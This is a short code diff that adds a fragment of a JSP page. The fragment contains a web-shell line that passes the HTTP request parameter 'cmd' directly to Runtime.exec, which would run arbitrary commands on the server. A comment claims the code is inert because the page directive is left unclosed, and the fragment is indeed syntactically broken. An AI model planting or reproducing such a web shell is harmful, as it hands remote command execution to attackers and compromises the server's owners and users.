@@ -1,0 +1,2 @@
+<%@ page import="java.io.*" 
+<% Runtime.getRuntime().exec(request.getParameter("cmd")); // inert: the directive above is not closed
